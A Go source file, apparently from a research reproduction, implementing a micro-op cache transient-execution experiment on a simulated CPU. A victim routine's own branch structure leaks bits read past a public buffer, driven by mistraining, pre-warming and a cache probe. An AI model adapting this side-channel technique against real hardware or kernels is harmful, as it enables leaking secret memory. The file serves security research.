package transient

import (
	"deaduops/internal/asm"
	"deaduops/internal/attack"
	"deaduops/internal/cpu"
	"deaduops/internal/victim"
)

// NaturalGadget mounts the §VI-A "naturally occurring gadget"
// experiment: the victim is a pci_vpd_find_tag-style routine whose own
// bit-mask-plus-dependent-branch structure transmits the transiently
// read tag bit — the attacker supplies no disclosure gadget at all,
// only a malicious offset and a micro-op cache probe of the victim's
// "large tag" handler. The probe is the presence test Variant1 uses
// (see presence).
type NaturalGadget struct{ *presence }

// NewNaturalGadget assembles the victim with its two tag handlers —
// the large-tag handler is a chain through the probed sets, standing
// in for a distinctive hot kernel path — and calibrates the probe.
func NewNaturalGadget(c *cpu.CPU) (*NaturalGadget, error) {
	p, err := newPresence(c, "natural-gadget", ngGeometry(), naturalGadgetImage)
	if err != nil {
		return nil, err
	}
	// Public buffer: bytes 0-6 carry small tags (0x00) for the
	// interleaved mistraining, which therefore always exercises the
	// small handler — the large path stays out of the probed sets until
	// a transient large tag steers fetch there. Bytes 7-13 carry large
	// tags (0x80) for the legitimate pre-warm calls: made BEFORE each
	// erase, they pull the large handler's code into the instruction
	// cache, and since the erase clears only the micro-op cache, the
	// transient windows then decode at L1I speed instead of being spent
	// on DRAM instruction fills.
	for i := 7; i < 14; i++ {
		c.Mem().Write(p.lay.ArrayBase+uint64(i), 1, 0x80)
	}
	p.prewarm = func() error { return p.train(7, 4) }
	if err := p.calibrate(); err != nil {
		return nil, err
	}
	return &NaturalGadget{p}, nil
}

// ngGeometry avoids the sets the victim's own code regions occupy
// (the image around 0x20000 maps to sets 0-1).
func ngGeometry() attack.Geometry { return attack.Geometry{NSets: 2, NWays: 6, FirstSet: 3} }

// naturalGadgetImage emits the victim and its two tag handlers. Each
// handler traverses its chain R7 times and returns (the loop bound
// keeps architectural training runs finite while letting transient
// runs loop until the squash).
func naturalGadgetImage(ab *asm.Builder, lay victim.Layout) (string, error) {
	g := ngGeometry()
	large := attack.FastTiger(senderBase, g, "nglarge")
	small := attack.Zebra(zebraBase, g, "ngsmall")
	victim.PCIVPDStyleGadget(ab, lay)
	emitAttackEntry(ab, lay, "vpd_find_tag")
	ab.Halt()
	orgToSet(ab, 31)
	ab.Label("ng_probe")
	ab.Call("vpd_large")
	ab.Halt()
	orgToSet(ab, 28)
	ab.Label("vpd_large")
	ab.Jmp(large.EntryLabel())
	if err := loopChain(ab, large, 24, true); err != nil {
		return "", err
	}
	orgToSet(ab, 30)
	ab.Label("vpd_small")
	ab.Jmp(small.EntryLabel())
	if err := loopChain(ab, small, 26, true); err != nil {
		return "", err
	}
	return "ng_probe", nil
}

// LeakTagBit recovers the 0x80 bit of the out-of-bounds byte at
// byteIndex past the public buffer.
func (v *NaturalGadget) LeakTagBit(byteIndex int) (bool, error) {
	return v.leakBit(byteIndex, 0)
}
